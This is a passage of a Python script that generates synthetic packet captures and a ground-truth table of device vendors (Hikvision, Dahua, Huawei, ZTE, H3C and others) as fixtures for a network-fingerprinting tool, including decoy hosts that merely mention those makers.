# SPDX-License-Identifier: Apache-2.0
"""The written captures: which devices are in each, what they say, and the truth about them, which is set down
here before any frame is built. `scenes.py FOLDER` writes them and prints their rows of truth.tsv."""

import gzip
import struct
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

from frames import *

ALL_DHCP = "255.255.255.255"
ALL_SSDP = "239.255.255.250"
ALL_MDNS = "224.0.0.251"
ALL_DHIP = "239.255.255.251"


@dataclass
class Device:
    """One line of truth. An empty MAC means: no frame shows it, the device is behind a router."""
    mac: str
    ip: str
    supplier: str  # '-' where nobody on our lists made it
    evidence: str  # the protocols in this file that show the maker; for '-' the protocols that it speaks
    note: str


@dataclass
class Scene:
    file: str
    about: str
    data: bytes
    devices: list = field(default_factory=list)


def by_udp(source, source_ip, source_port, target_ip, target_port, payload, target=None, ttl=64):
    packet = udp(source_ip, source_port, target_ip, target_port, payload, ttl)
    if target is None:
        target = BROADCAST if target_ip == ALL_DHCP else multicast_mac(target_ip)
    return ethernet(target, source, ethertype_of(packet), packet)


def by_tcp(client, client_ip, server, server_ip, server_port, turns, client_port=50000, tags=(), **ttls):
    for from_client, packet in conversation(client_ip, client_port, server_ip, server_port, turns, **ttls):
        target, source = (server, client) if from_client else (client, server)
        yield ethernet(target, source, ethertype_of(packet), packet, tags)


def asks(source, source_ip, target_ip):
    return ethernet(BROADCAST, source, 0x0806, arp(1, source, source_ip, "00:00:00:00:00:00", target_ip))


def answers(source, source_ip, target, target_ip):
    return ethernet(target, source, 0x0806, arp(2, source, source_ip, target, target_ip))


def get(path="/", agent="curl/8.5.0", host="192.0.2.80"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n"


def page(server, body="<html></html>", status="200 OK", more=""):
    return f"HTTP/1.1 {status}\r\nServer: {server}\r\n{more}Content-Length: {len(body)}\r\n\r\n{body}"


# --- makers ----------------------------------------------------------------------------------------------

VRP = ("S5720-36C-EI-AC\r\nHuawei Versatile Routing Platform Software\r\n"
       "VRP (R) software,Version 5.170 (S5720 V200R011C10SPC600)\r\n"
       "Copyright (C) 2007 Huawei Technologies Co., Ltd.")
ZXR10 = ("ZTE Ethernet Switch ZXR10 5950-36TM-H, Version: V3.03.20.B24P02 "
         "Copyright (c) 2001-2021 by ZTE Corporation")
IOS = ("Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.2(7)E4, RELEASE SOFTWARE (fc2)\n"
       "Technical Support: http://www.cisco.com/techsupport")
COMWARE_H3C = ("H3C Comware Software, Version 7.1.070, Release 6328P03\r\nH3C S5560X-30C-EI\r\n"
               "Copyright (c) 2004-2020 New H3C Technologies Co., Ltd. All rights reserved.")
COMWARE_HPE = ("HPE Comware Platform Software, Software Version 7.1.070 Release 3208P15\r\nHPE 5130 24G EI\r\n"
               "Copyright (c) 2010-2019 Hewlett Packard Enterprise Development LP")
VIEWER, VIEWER_IP = "18:66:da:10:00:50", "192.0.2.50"
VIEWER_TRUTH = Device(VIEWER, VIEWER_IP, "-", "sadp,dhip,http", "Dell PC of the guard; it asks, it is no camera")


def cameras():
    hik, old, oem = "44:19:b6:5a:10:21", "a4:14:37:00:99:02", "00:e0:4c:53:44:58"
    dahua, lorex, bras, silent = "3c:ef:8c:11:22:33", "90:02:a9:44:55:66", "5c:5f:67:77:88:99", "24:fd:0d:0a:0b:0c"
    axis = "ac:cc:8e:12:34:56"
    frames = [by_udp(VIEWER, VIEWER_IP, 37020, ALL_SSDP, 37020, SADP_QUESTION)]
    frames.append(by_udp(hik, "192.0.2.21", 37020, ALL_SSDP, 37020, sadp_answer(
        hik, "DS-2CD2143G2-I", "DS-2CD2143G2-I20210528AAWRG12345678", "192.0.2.21", "192.0.2.1",
        "V5.7.1build 211130")))
    frames.append(by_udp(oem, "192.0.2.23", 37020, ALL_SSDP, 37020, sadp_answer(
        oem, "C800", "C80020220318AAWRJ87654321", "192.0.2.23", "192.0.2.1", "V5.5.150build 220112")))
    frames.append(ethernet(BROADCAST, VIEWER, 0x8033, sadp_raw(
        False, 3, VIEWER, VIEWER_IP, BROADCAST, "0.0.0.0", "0.0.0.0", address("2001:db8::50"))))
    said = b"DS-7608NI-K2/8P0820190812CCRRD33344455WCVU\0" + b"V4.31.102build 220324\0"
    frames.append(ethernet(BROADCAST, old, 0x8033, sadp_raw(
        True, 4, old, "192.0.2.22", VIEWER, VIEWER_IP, "255.255.255.0", said)))
    frames.append(by_udp(VIEWER, VIEWER_IP, 37810, ALL_DHIP, 37810, dhip(DHIP_QUESTION)))
    for device, where, model, serial, vendor, version in (
            (dahua, "192.0.2.31", "IPC-HFW2431S-S-S2", "6G0A1B2PAZ9D8E7", "Dahua", "2.800.0000000.25.R,2021-11-29"),
            (lorex, "192.0.2.32", "E841CA-E", "ND011910001234", "Lorex", "2.800.00LR000.0.R,2021-03-05"),
            (bras, "192.0.2.33", "VIP-3230-D-SL", "IB4M2700123AB", "Intelbras", "2.800.00IB00A.0.T,2021-08-19")):
        frames.append(by_udp(device, where, 37810, ALL_DHIP, 37810, dhip(
            dhip_answer(device, where, "192.0.2.1", model, serial, vendor, version))))
    frames.append(asks(silent, "192.0.2.34", "192.0.2.1"))
    frames += by_tcp(VIEWER, VIEWER_IP, axis, "192.0.2.35", 80, [
        ("client", get(host="192.0.2.35")), ("server", page(
            "Apache", status="401 Unauthorized",
            more='WWW-Authenticate: Digest realm="AXIS_ACCC8E123456", nonce="x", qop="auth"\r\n'))])
    frames += by_tcp(VIEWER, VIEWER_IP, lorex, "192.0.2.32", 80, [
        ("client", get(host="192.0.2.32")), ("server", page(
            "Web", status="401 Unauthorized",
            more='WWW-Authenticate: Digest realm="Login to 4d0d6ba0ef1c1a8e36a2bd4a1c7a1f9e", nonce="x"\r\n'))])
    return Scene("frames-cameras.pcap", "Cameras that answer the discovery tools of Hikvision (UDP and raw) and Dahua, "
                 "under their own and under other brands", pcap(frames), [
        Device(hik, "192.0.2.21", "hikvision", "oui,sadp", "DS-2CD2143G2-I, XML answer on UDP 37020"),
        Device(old, "192.0.2.22", "hikvision", "oui,sadp", "DS-7608NI recorder, raw answer on 0x8033, no UDP"),
        Device(oem, "192.0.2.23", "hikvision", "sadp", "sold as Annke C800; network chip's MAC is Realtek's"),
        Device(dahua, "192.0.2.31", "dahua", "oui,dhip", "IPC-HFW2431S under Dahua's own name"),
        Device(lorex, "192.0.2.32", "dahua", "oui,dhip,http", "sold as Lorex E841CA; MAC is Dahua's"),
        Device(bras, "192.0.2.33", "dahua", "dhip", "sold as Intelbras VIP-3230; MAC is Intel's, so DHIP alone tells"),
        Device(silent, "192.0.2.34", "-", "oui,arp", "Intelbras MAC and nothing more: a brand, not proof of a platform"),
        Device(axis, "192.0.2.35", "-", "oui,http", "Axis camera, an innocent one"), VIEWER_TRUTH])


def switches():
    zte, huawei, h3c, hpe = "00:1e:73:59:50:01", "c4:47:3f:57:20:01", "00:0f:e2:55:60:01", "94:57:a5:51:30:01"
    cisco, oem, manager = "00:56:2b:29:60:01", "00:e0:fc:57:00:02", "b8:ca:3a:00:01:61"
    hik, hytera, foreign = "4c:f5:dc:0c:0c:03", "64:69:bc:0d:0d:04", "00:26:5a:0e:0e:05"
    group = LLDP_GROUP
    frames = [
        ethernet(group, zte, 0x88CC, lldp(zte, "gei-0/1/1/7", "zte-access-1", ZXR10, "192.0.2.2")),
        ethernet(group, huawei, 0x88CC, lldp(
            huawei, "GigabitEthernet0/0/7", "floor-2", VRP, "192.0.2.3",
            extra=organization_tlv("00e0fc", 3, b"\0\1") + organization_tlv("3a72c2", 1, b"\x02")
            + organization_tlv("0080c2", 3, b"\x00\x1e\x07cameras"))),
        ethernet(group, h3c, 0x88CC, lldp(h3c, "GigabitEthernet1/0/3", "h3c-core", COMWARE_H3C, "192.0.2.4")),
        ethernet(group, hpe, 0x88CC, lldp(hpe, "GigabitEthernet1/0/4", "hpe-edge", COMWARE_HPE, "192.0.2.5")),
        snap(CDP_GROUP, cisco, 0x00000C, 0x2000, cdp(
            "access-3.example.net", IOS, "cisco WS-C2960X-24TS-L", "GigabitEthernet1/0/9", "192.0.2.6")),
        snap(CDP_GROUP, oem, 0x00000C, 0x2000, cdp(
            "branch-ar", VRP.replace("S5720-36C-EI-AC", "AR651"), "Huawei AR651", "GigabitEthernet0/0/1", "192.0.2.7")),
        by_udp(huawei, "192.0.2.3", 51000, "192.0.2.161", 162, snmp_trap1(
            "1.3.6.1.4.1.2011.2.23.282", "192.0.2.3",
            bindings=[binding("1.3.6.1.2.1.1.5.0", ber(4, b"floor-2"))]), manager),
        by_udp(hpe, "192.0.2.5", 51000, "192.0.2.161", 162, snmp_trap1("1.3.6.1.4.1.25506.11.1.180", "192.0.2.5"), manager),
        by_udp(manager, "192.0.2.161", 40000, "192.0.2.4", 161, snmp(1, snmp_pdu(
            0xA0, [binding("1.3.6.1.2.1.1.1.0", b"\5\0"), binding("1.3.6.1.2.1.1.2.0", b"\5\0")])), h3c),
        by_udp(h3c, "192.0.2.4", 161, "192.0.2.161", 40000, snmp(1, snmp_pdu(0xA2, [
            binding("1.3.6.1.2.1.1.1.0", ber(4, octets(COMWARE_H3C))),
            binding("1.3.6.1.2.1.1.2.0", ber_oid("1.3.6.1.4.1.25506.1.1840"))])), manager),
    ]
    for device, where, engine in (
            (zte, "192.0.2.2", "00000f3e000000a1c0000202"),
            (hik, "192.0.2.8", "800098fd03" + mac(hik).hex()),
            (foreign, "192.0.2.9", "800007db03" + "c4473f0000fe"),
            (hytera, "192.0.2.10", "80009d6904" + b"repeater-1".hex())):
        report = snmp_pdu(0xA8, [binding("1.3.6.1.6.3.15.1.1.4.0", ber_integer(9, 0x41))])
        frames.append(by_udp(manager, "192.0.2.161", 40001, where, 161, snmp3(b"", snmp_pdu(0xA0, [])), device))
        frames.append(by_udp(device, where, 161, "192.0.2.161", 40001, snmp3(bytes.fromhex(engine), report), manager))
        frames.append(by_udp(manager, "192.0.2.161", 40001, where, 161,
                             snmp3(bytes.fromhex(engine), snmp_pdu(0xA0, []), "monitor"), device))
    for device, where, banner in (
            (hpe, "192.0.2.5", "SSH-2.0-Comware-7.1.070\r\n"), (h3c, "192.0.2.4", "SSH-2.0-Comware-7.1.070\r\n"),
            (huawei, "192.0.2.3", "SSH-2.0-HUAWEI-1.5\r\n"), (zte, "192.0.2.2", "SSH-2.0-ZTE_SSH.2.0\r\n")):
        frames += by_tcp(manager, "192.0.2.161", device, where, 22, [
            ("server", banner), ("client", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")])
    return Scene("frames-switches.pcap", "Network gear by LLDP, CDP, SNMP (v1 traps, v2c, v3 engine ids) and SSH; "
                 "H3C beside its HPE twin", pcap(frames), [
        Device(zte, "192.0.2.2", "zte", "oui,lldp,snmp,ssh", "ZXR10 5950; engine id of the old 12-octet form"),
        Device(huawei, "192.0.2.3", "huawei", "oui,lldp,snmp,ssh", "S5720; LLDP text, TLVs of 00-E0-FC and 3A-72-C2, v1 trap, banner"),
        Device(h3c, "192.0.2.4", "h3c", "oui,lldp,snmp,ssh", "S5560X; the Comware banner alone would not tell"),
        Device(hpe, "192.0.2.5", "-", "oui,lldp,snmp,ssh", "HPE 5130: Comware banner and number 25506, yet not H3C's"),
        Device(cisco, "192.0.2.6", "-", "oui,cdp", "Cisco 2960X"),
        Device(oem, "192.0.2.7", "huawei", "oui,cdp", "AR651 that speaks CDP"),
        Device(hik, "192.0.2.8", "hikvision", "oui,snmp", "engine id of number 39165 with its MAC"),
        Device(foreign, "192.0.2.9", "huawei", "snmp", "D-Link MAC (a board in between); engine id of number 2011 with MAC c4:47:3f:00:00:fe"),
        Device(hytera, "192.0.2.10", "hytera", "oui,snmp", "repeater; engine id of number 40297, text form"),
        Device(manager, "192.0.2.161", "-", "oui,snmp,ssh", "Dell poller: repeats each engine id in its own requests, owns none")])


def tags():
    q, qinq = 0x8100, 0x88A8
    hik, zte, axis, twin = "4c:f5:dc:00:30:01", "d0:60:8c:00:20:01", "00:40:8c:00:10:01", "50:c7:bf:00:00:05"

    def tagged(source, where, *stack):
        return ethernet(BROADCAST, source, 0x0806, arp(1, source, where, "00:00:00:00:00:00", "192.0.2.1"), stack)

    answer = udp("192.0.2.30", 37020, ALL_SSDP, 37020, sadp_answer(
        hik, "DS-2DE4225IW-DE", "DS-2DE4225IW-DE20200901CCWRE55566677", "192.0.2.30", "192.0.2.1", "V5.6.15"))
    frames = [tagged(axis, "192.0.2.10", (q, 10)), tagged(hik, "192.0.2.30", (q, 30)),
              ethernet(multicast_mac(ALL_SSDP), hik, 0x0800, answer, [(q, 0x6000 | 30)]),
              tagged(zte, "192.0.2.20", (qinq, 100), (q, 200)),
              ethernet(LLDP_GROUP, zte, 0x88CC, lldp(zte, "gpon-onu_1/2/3", "olt-7", ZXR10), [(q, 100), (q, 200)]),
              tagged(twin, "192.0.2.40", (q, 0)), tagged(twin, "198.51.100.40", (q, 40)),
              tagged(twin, "203.0.113.40", (q, 50))]
    return Scene("frames-tags.pcap", "VLAN tags: one, two (802.1ad and two of 802.1Q), priority only, "
                 "one MAC in three VLANs", pcap(frames), [
        Device(axis, "192.0.2.10", "-", "oui,arp", "VLAN 10"),
        Device(hik, "192.0.2.30", "hikvision", "oui,sadp", "VLAN 30, with and without priority bits"),
        Device(zte, "192.0.2.20", "zte", "oui,lldp", "VLAN 100 then 200, under 88a8 and under 8100"),
        Device(twin, "192.0.2.40,198.51.100.40,203.0.113.40", "tp-link", "oui", "priority tag (VLAN 0), VLAN 40, VLAN 50")])


# --- one small network in many formats -------------------------------------------------------------------

CAMERA, SWITCH, PRINTER = "44:19:b6:00:00:01", "00:1e:73:00:00:02", "3c:2a:f4:00:00:03"


def small_truth(note=""):
    return [Device(CAMERA, "192.0.2.21", "hikvision", "oui,sadp,http", "camera" + note),
            Device(SWITCH, "192.0.2.2", "zte", "oui,lldp", "switch" + note),
            Device(PRINTER, "192.0.2.90", "-", "oui,http", "Brother printer" + note)]


def small_packets():
    """(source MAC, target MAC, ethertype, payload) of the small network, for any link layer."""
    answer = udp("192.0.2.21", 37020, ALL_SSDP, 37020, sadp_answer(
        CAMERA, "DS-2CD1043G0-I", "DS-2CD1043G0-I20190711AAWRD12312312", "192.0.2.21", "192.0.2.1", "V5.5.83"))
    yield CAMERA, BROADCAST, 0x0806, arp(1, CAMERA, "192.0.2.21", "00:00:00:00:00:00", "192.0.2.1")
    yield CAMERA, multicast_mac(ALL_SSDP), 0x0800, answer
    yield SWITCH, LLDP_GROUP, 0x88CC, lldp(SWITCH, "gei-0/1/1/1", "zte-1", ZXR10, "192.0.2.2")
    for server, where, name, more in ((PRINTER, "192.0.2.90", "debut/1.30", ""), (
            CAMERA, "192.0.2.21", "Hikvision-Webs", 'WWW-Authenticate: Digest realm="IP Camera(D1231)"\r\n')):
        other, other_ip = (CAMERA, "192.0.2.21") if server == PRINTER else (PRINTER, "192.0.2.90")
        for from_client, packet in conversation(other_ip, 50100, where, 80, [
                ("client", get(host=where)), ("server", page(name, more=more))]):
            yield (other, server) [not from_client], (server, other)[not from_client], 0x0800, packet


def formats():
    whole = [ethernet(target, source, kind, payload) for source, target, kind, payload in small_packets()]
    told = "the small network (camera, switch, printer): "
    for name, big, nano in (("little-micro", False, False), ("little-nano", False, True),
                            ("big-micro", True, False), ("big-nano", True, True)):
        yield Scene(f"frames-{name}.pcap", f"{told}pcap, {name.split('-')[0]} endian, {name.split('-')[1]}seconds",
                    pcap(whole, big=big, nano=nano), small_truth())
    yield Scene("frames-compressed.pcap.gz", told + "gzip", gzip.compress(pcap(whole), mtime=0), small_truth())
    yield Scene("frames-compressed.pcap.zst", told + "Zstandard", subprocess.run(
        ["zstd", "-19", "-c"], input=pcap(whole), stdout=subprocess.PIPE, check=True).stdout, small_truth())
    yield Scene("frames-big.pcapng", told + "pcapng, big endian", pcapng(
        [("tap0", LINK_ETHERNET, 6)], [(0, frame) for frame in whole], big=True), small_truth())
    taps = [(0 if frame[6:12] != mac(SWITCH) else 1, frame) for frame in whole] + [(1, whole[0])]
    yield Scene("frames-two-taps.pcapng", told + "two interfaces, microseconds and nanoseconds; the switch on the "
                "second, the camera's ARP on both", pcapng([("tap0", LINK_ETHERNET, 6), ("tap1", LINK_ETHERNET, 9)], taps),
                [Device(CAMERA, "192.0.2.21", "hikvision", "oui,sadp,http", "tap0; its ARP on tap1 too"),
                 Device(SWITCH, "192.0.2.2", "zte", "oui,lldp", "tap1 only"),
                 Device(PRINTER, "192.0.2.90", "-", "oui,http", "tap0 only")])
    yield Scene("frames-mixed-links.pcapng", told + "one interface Ethernet, one Linux cooked v2", pcapng(
        [("tap0", LINK_ETHERNET, 6), ("any", LINK_COOKED2, 9)],
        [(0, ethernet(t, s, k, p)) if s != CAMERA else (1, cooked2(s, k, p)) for s, t, k, p in small_packets()]),
        small_truth())
    yield Scene("frames-cooked1.pcap", told + "Linux cooked v1: no target MAC", pcap(
        [cooked(s, k, p) for s, _, k, p in small_packets()], LINK_COOKED), small_truth())
    yield Scene("frames-cooked2.pcap", told + "Linux cooked v2", pcap(
        [cooked2(s, k, p) for s, _, k, p in small_packets()], LINK_COOKED2), small_truth())
    yield Scene("frames-raw.pcap", told + "raw IP, so no MAC and no LLDP", pcap(
        [p for _, _, k, p in small_packets() if k == 0x0800], LINK_RAW), [
        Device("", "192.0.2.21", "hikvision", "sadp,http", f"no link layer; SADP tells the MAC {CAMERA}"),
        Device("", "192.0.2.90", "-", "http", "Brother printer; no link layer")])


def wifi():
    access, phone, laptop = "00:e0:fc:aa:00:01", "8c:77:12:00:00:11", "2c:8d:b1:00:00:12"
    frames = [wifi_beacon(access, "office", element(221, bytes.fromhex("00e0fc") + b"\x01\x02")),
              wifi_data(CAMERA, access, BROADCAST, 0x0806, arp(1, CAMERA, "192.0.2.21", "00:00:00:00:00:00", "192.0.2.1")),
              wifi_data(CAMERA, access, multicast_mac(ALL_SSDP), 0x0800, udp(
                  "192.0.2.21", 37020, ALL_SSDP, 37020, sadp_answer(
                      CAMERA, "DS-2CV2041G2-IDW", "DS-2CV2041G2-IDW20210101AAWRF99988877", "192.0.2.21", "192.0.2.1", "V5.7.0")), qos=True),
              wifi_data(phone, access, BROADCAST, 0x0800, udp("0.0.0.0", 68, ALL_DHCP, 67, dhcp(
                  1, phone, [(60, "android-dhcp-13"), (12, "Galaxy-A53"), (55, b"\1\3\6\x0f")]))),
              wifi_data("18:66:da:00:00:99", access, laptop, 0x0806, arp(
                  2, "18:66:da:00:00:99", "192.0.2.1", laptop, "192.0.2.77"), to_ds=False),
              wifi_data(laptop, access, access, 0, bytes(range(48)), encrypted=True)]
    return Scene("frames-wifi.pcap", "802.11 with radiotap: a beacon, data frames to and from the access point, QoS, "
                 "one enciphered", pcap(frames, LINK_RADIOTAP), [
        Device(access, "", "huawei", "oui", "access point: beacon with an element of 00-E0-FC"),
        Device(CAMERA, "192.0.2.21", "hikvision", "oui,sadp", "wireless camera"),
        Device(phone, "", "-", "oui,dhcp", "Samsung phone"),
        Device(laptop, "", "-", "oui", "Intel laptop, only enciphered frames"),
        Device("18:66:da:00:00:99", "192.0.2.1", "-", "oui,arp", "wired Dell gateway, relayed by the access point")])


# --- hosts, names, false friends -------------------------------------------------------------------------

def dhcp_scene():
    phone, onu, tablet, server = "d2:11:22:33:44:55", "00:15:eb:00:00:21", "8c:77:12:00:00:22", "18:66:da:00:00:67"
    ap, relay, router6, duid_only = "c4:47:3f:00:00:23", "00:56:2b:00:00:01", "00:e0:fc:00:06:01", "de:ad:be:ef:00:24"
    pc = "b8:ca:3a:00:00:25"

    def from_client(client, kind, options):
        return ethernet(BROADCAST, client, 0x0800, udp("0.0.0.0", 68, ALL_DHCP, 67, dhcp(kind, client, options)))

    link = "fe80::d011:22ff:fe33:4455"
    enterprise_duid = dhcp6_option(1, b"\0\2" + struct.pack("!I", 2011) + b"AR651-0001")
    link_duid = dhcp6_option(1, b"\0\3\0\1" + mac("44:19:b6:00:06:06"))
    solicit = b"\x01\x12\x34\x56" + link_duid + dhcp6_option(16, struct.pack("!IH", 39165, 9) + b"DS-2CD204")

    def six(source, where, target, payload, source_port=546):
        return ethernet(multicast_mac(target), source, 0x86DD, udp(where, source_port, target, 547, payload))

    relayed = b"\x0c\0" + address("2001:db8::") + address("fe80::10") + dhcp6_option(
        18, b"xpon 1/1/2:30.0") + dhcp6_option(37, struct.pack("!I", 9) + b"cab-7") + dhcp6_option(9, solicit)
    circuit = b"Access-Node/eth 0/1/3:100"
    frames = [
        from_client(phone, 1, [(60, "HUAWEI:android:ELE"), (12, "HUAWEI_P30-3c1f"), (55, b"\1\3\6\x0f\x1a\x1c\x33\x3a\x3b\x2b")]),
        from_client(tablet, 1, [(60, "android-dhcp-14"), (12, "HUAWEI-lounge-display"), (55, b"\1\3\6")]),
        from_client(pc, 3, [(60, "MSFT 5.0"), (12, "HIKARI-PC"), (81, b"\0\0\0HIKARI-PC.example.net"), (50, address("192.0.2.25"))]),
        from_client(ap, 1, [(60, "Huawei AP"), (12, "AP4050DN"), (61, b"\1" + mac(ap)), (124, struct.pack("!IB", 2011, 5) + b"\x04AP40")]),
        ethernet(server, relay, 0x0800, udp("198.51.100.1", 67, "192.0.2.67", 67, dhcp(1, onu, [
            (60, "udhcp 1.31.1"), (12, "home"), (82, element(1, circuit) + element(2, b"ZTEGC0FFEE01"))],
            relay="198.51.100.1"))),
        ethernet(BROADCAST, server, 0x0800, udp("192.0.2.67", 67, ALL_DHCP, 68, dhcp(2, pc, [
            (54, address("192.0.2.67")), (43, b"\x03\x0d192.0.2.67,10"), (51, b"\0\0\x0e\x10")], reply=True, offered="192.0.2.25"))),
        six(router6, "fe80::2e0:fcff:fe00:601", "ff02::1:2", b"\x01\xab\xcd\xef" + enterprise_duid),
        six(duid_only, link, "ff02::1:2", solicit),
        six(relay, "fe80::256:2bff:fe00:1", "ff02::1:2", relayed, 547),
    ]
    return Scene("frames-dhcp.pcap", "DHCP and DHCPv6: classes, names, relay data, DUIDs; a phone with a private MAC",
                 pcap(frames), [
        Device(phone, "", "huawei", "dhcp", "phone with a random MAC: class HUAWEI:android:ELE"),
        Device(tablet, "", "-", "oui,dhcp", "Samsung; its owner named it HUAWEI-lounge-display"),
        Device(pc, "192.0.2.25", "-", "oui,dhcp", "Dell PC; name HIKARI-PC is no Hikvision"),
        Device(ap, "", "huawei", "oui,dhcp", "access point; enterprise number 2011 in option 124"),
        Device(onu, "", "zte", "oui,dhcp", "home gateway beyond the relay, by its client MAC; serial ZTEGC0FFEE01 in option 82"),
        Device(relay, "198.51.100.1", "-", "oui,dhcp,dhcpv6", "Cisco relay: forwards others' words, in DHCPv6 too"),
        Device(server, "192.0.2.67", "-", "oui,dhcp", "Dell server; option 43 names a controller for access points"),
        Device(router6, "fe80::2e0:fcff:fe00:601", "huawei", "oui,dhcpv6", "DUID of enterprise 2011"),
        Device(duid_only, link, "hikvision", "dhcpv6", "random MAC; DUID holds the MAC 44:19:b6:00:06:06, class of 39165; also relayed")])


def clients():
    guard, phone, reader, wiki = "18:66:da:00:01:01", "a4:83:e7:00:01:02", "b8:ca:3a:00:01:03", "00:11:32:00:01:04"
    proxy, resolver, ha, talker = "00:1b:21:00:01:05", "dc:a6:32:00:01:06", "b8:27:eb:00:01:07", "8c:85:90:00:01:08"
    wiki_ip, resolver_ip = "192.0.2.104", "192.0.2.106"
    lies = ("<pre>HTTP/1.1 401 Unauthorized\r\nServer: Hikvision-Webs\r\nWWW-Authenticate: Digest "
            'realm="HuaweiHomeGateway"\r\n\r\nSSH-2.0-HUAWEI-1.5\r\nServer: DNVRS-Webs</pre>')
    frames = [asks(guard, "192.0.2.101", wiki_ip)]
    frames += by_tcp(reader, "192.0.2.103", wiki, wiki_ip, 80, [
        ("client", get("/how-to-find-cameras?Server:%20Hikvision-Webs")), ("server", page("nginx/1.22.1", lies))])
    frames += by_tcp(guard, "192.0.2.101", wiki, wiki_ip, 8080, [
        ("client", get("/live", "Hikplayer/1.0")), ("server", page("nginx/1.22.1"))], 50001)
    frames += by_tcp(phone, "192.0.2.102", wiki, wiki_ip, 80, [
        ("client", get("/", "Dalvik/2.1.0 (Linux; U; Android 10; HUAWEI ELE-L29) HMSCore/6.1 DMSS/1.99")),
        ("server", page("nginx/1.22.1"))], 50002)
    frames += by_tcp(reader, "192.0.2.103", proxy, "192.0.2.105", 3128, [
        ("client", get("http://203.0.113.7/doc/page/login.asp", host="203.0.113.7")),
        ("server", page("Hikvision-Webs", more="Via: 1.1 proxy (squid/5.7)\r\n"))], 50003)
    frames += by_tcp(reader, "192.0.2.103", wiki, wiki_ip, 22, [
        ("server", "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"), ("client", "SSH-2.0-PuTTY_Release_0.80 HUAWEI-1.5\r\n")], 50004)
    for index, name in enumerate(("www.hik-connect.com", "api.hicloud.com", "www.easy4ipcloud.com", "xmeye.net")):
        frames.append(by_udp(phone, "192.0.2.102", 40000 + index, resolver_ip, 53, dns_question(name), resolver))
        frames.append(by_udp(resolver, resolver_ip, 53, "192.0.2.102", 40000 + index, dns_answer(
            name, 1, address("203.0.113.7"), 0x1A2B, multicast=False), phone))
    text = element_of_name("note=bridge for Dahua and Hikvision cameras") + element_of_name("manufacturer=Home")
    frames.append(by_udp(ha, "192.0.2.107", 5353, ALL_MDNS, 5353, dns_answer("Cameras._hap._tcp.local", 16, text), ttl=255))
    frames.append(by_udp(talker, "192.0.2.108", 50005, ALL_SSDP, 1900,
                         "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\n"
                         "ST: ssdp:all\r\nUSER-AGENT: iOS/17 UPnP/1.1 HUAWEI-Finder/2.0\r\n\r\n"))
    frames.append(by_udp(ha, "192.0.2.107", 514, wiki_ip, 514,
                         "<14>camera-log: seen %%01SHELL/5/LOGIN from Hikvision, ZXR10, Huawei Versatile Routing Platform", wiki))
    frames.append(ethernet(LLDP_GROUP, wiki, 0x88CC, lldp(
        wiki, "eth0", "nas", "Linux nas 5.10 x86_64", wiki_ip, 0x0080,
        port_description="to Huawei S5720 port 7")))
    return Scene("frames-clients.pcap", "False friends: nobody here is of a flagged maker, though many speak of one",
                 pcap(frames), [
        Device(guard, "192.0.2.101", "-", "oui,arp,http", "Dell PC with the player Hikplayer: a client"),
        Device(phone, "192.0.2.102", "-", "oui,http", "Apple MAC; a user agent that says HUAWEI, and look-ups of makers' clouds"),
        Device(reader, "192.0.2.103", "-", "oui,http,ssh", "Dell PC; reads about cameras; SSH client banner that says HUAWEI"),
        Device(wiki, wiki_ip, "-", "oui,http,ssh,lldp", "Synology: page body quotes camera heads and banners; port description says Huawei"),
        Device(proxy, "192.0.2.105", "-", "oui,http", "Intel box, a proxy: relays the Server line of a camera elsewhere (Via says so)"),
        Device(resolver, resolver_ip, "-", "oui", "Raspberry Pi resolver"),
        Device(ha, "192.0.2.107", "-", "oui,mdns", "Raspberry Pi; TXT and syslog that name makers"),
        Device(talker, "192.0.2.108", "-", "oui,ssdp", "Apple; asks by SSDP with HUAWEI in its user agent")])


def routed():
    router, asker, proxy = "00:e0:fc:12:34:56", "18:66:da:00:02:02", "c4:47:3f:00:02:03"
    frames = [answers(router, "192.0.2.1", asker, "192.0.2.200"),
              ethernet("33:33:00:00:00:01", router, 0x86DD, icmp6(
                  "fe80::2e0:fcff:fe12:3456", "ff02::1", 134, struct.pack("!BBHII", 64, 0, 1800, 0, 0)
                  + b"\x01\x01" + mac(router)))]
    remote = [("198.51.100.10", "nginx/1.22.1", "-"), ("198.51.100.11", "Apache/2.4.57", "-"),
              ("198.51.100.12", "Hikvision-Webs", "hikvision"), ("203.0.113.13", "Huawei-BMC", "huawei"),
              ("203.0.113.14", "lighttpd/1.4.69", "-")]
    for index, (where, server, _) in enumerate(remote):
        frames += by_tcp(asker, "192.0.2.200", router, where, 80, [
            ("client", get(host=where)), ("server", page(server))], 51000 + index, server_ttl=60)
    for number in range(20, 60):
        frames.append(ethernet(asker, router, 0x0800, udp(
            f"203.0.113.{number}", 123, "192.0.2.200", 123, b"\x24\2\6\xe9".ljust(48, b"\0"), ttl=52)))
    frames.append(ethernet(asker, router, 0x86DD, udp(
        "2001:db8:2::4619:b6ff:fe00:207", 123, "2001:db8::200", 123, b"\x24".ljust(48, b"\0"), ttl=61)))
    frames += [answers(proxy, f"192.0.2.{last}", asker, "192.0.2.200") for last in (129, 130, 131)]
    return Scene("frames-routed.pcap", "Beyond a router: its Huawei MAC is on every packet of hosts that others made; "
                 "and a proxy ARP", pcap(frames), [
        Device(router, "192.0.2.1", "huawei", "oui", "router (TTL of what it forwards is lower; router advertisement)"),
        Device(asker, "192.0.2.200", "-", "oui,arp,http", "Dell PC")] + [
        Device("", where, supplier, "http", f"behind the router; Server {server}") for where, server, supplier in remote] + [
        Device("", "203.0.113.20-59", "-", "", "forty time servers behind the router: nobody knows their maker"),
        Device("", "2001:db8:2::4619:b6ff:fe00:207", "hikvision", "oui", "behind the router; the address's EUI-64 holds the MAC 46:19.. flipped to 44:19:b6:00:02:07: weak"),
        Device(proxy, "192.0.2.129,192.0.2.130,192.0.2.131", "huawei", "oui", "answers ARP for three addresses of others")])


def virtual():
    vrrp, hsrp, vrrp6 = "00:00:5e:00:01:0a", "00:00:0c:07:ac:01", "00:00:5e:00:02:0a"
    master, random, docker, cid, machine = "00:e0:fc:00:03:01", "da:a1:19:01:02:03", "02:42:c0:00:02:10", "3a:72:c2:00:00:01", "00:0c:29:00:03:05"
    group, rest = "44:19:b6", "ff:ff:ff"
